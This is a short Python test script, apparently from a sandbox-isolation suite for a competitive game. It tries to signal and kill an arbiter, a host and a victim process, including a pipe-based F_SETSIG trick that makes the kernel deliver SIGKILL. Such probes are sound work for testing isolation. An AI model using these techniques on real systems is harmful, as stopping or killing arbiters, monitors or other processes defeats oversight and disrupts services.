# Signals the arbiter, the opponent and all processes; where signal 0 was denied, it sends a real one.
import fcntl
import os
import signal

from attack import attempt, play


def signal_by_pipe(pid: int) -> None:
    """Have the kernel send the signal, as news of a pipe."""
    back, signal_ready = os.pipe()
    fcntl.fcntl(back, fcntl.F_SETOWN, pid)
    fcntl.fcntl(back, fcntl.F_SETSIG, signal.SIGKILL)
    fcntl.fcntl(back, fcntl.F_SETFL, fcntl.fcntl(back, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(signal_ready, b"x")


def attack(hints: dict) -> None:
    reached = [
        who for who in ("arbiter", "host", "victim") if attempt(f"reach_{who}", lambda who=who: os.kill(hints[who], 0))
    ]
    attempt("reach_everybody", lambda: os.kill(-1, 0))
    attempt("signal_by_pipe", lambda: signal_by_pipe(hints["victim"]))
    attempt("kill_victim", lambda: os.kill(hints["victim"], signal.SIGKILL))
    for who in ("host", "arbiter"):
        if who not in reached:
            attempt(f"stop_{who}", lambda who=who: os.kill(hints[who], signal.SIGSTOP))
            attempt(f"kill_{who}", lambda who=who: os.kill(hints[who], signal.SIGKILL))
            attempt(f"kill_group_of_{who}", lambda who=who: os.killpg(hints[who], signal.SIGKILL))


play(attack)
